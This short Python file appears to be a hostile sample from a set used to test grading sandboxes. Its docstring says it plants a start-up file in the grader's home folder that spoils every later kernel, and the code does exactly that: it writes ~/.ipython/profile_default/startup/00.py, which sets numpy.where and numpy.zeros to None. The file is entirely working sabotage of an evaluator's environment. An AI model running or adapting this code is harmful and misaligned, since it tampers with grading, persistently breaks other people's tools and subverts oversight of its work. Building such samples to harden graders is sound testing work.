"""Writes a start-up file into the home folder of whoever grades. It spoils each kernel
that starts from then on.

family: files
honest: 3
harms itself: no
"""

# %% perceptron
from pathlib import Path

startup = Path.home() / ".ipython/profile_default/startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "00.py").write_text(
    "import numpy\nnumpy.where = None\nnumpy.zeros = None\n", encoding="utf-8"
)
